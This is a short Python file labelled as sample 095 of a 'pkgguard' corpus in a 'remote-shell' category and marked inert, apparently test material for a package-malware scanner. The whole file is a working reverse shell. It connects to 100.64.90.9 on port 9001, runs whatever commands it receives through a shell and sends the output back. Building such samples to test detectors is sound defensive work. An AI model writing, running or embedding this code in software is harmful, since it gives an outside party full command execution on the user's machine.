# pkgguard corpus 095 (remote-shell), modelled on [taxonomy]; inert, never run.
import socket
import subprocess

s = socket.socket()
s.connect(("100.64.90.9", 9001))
while True:
    cmd = s.recv(4096).decode()
    if not cmd:
        break
    out = subprocess.run(cmd, shell=True, capture_output=True)
    s.sendall(out.stdout + out.stderr)
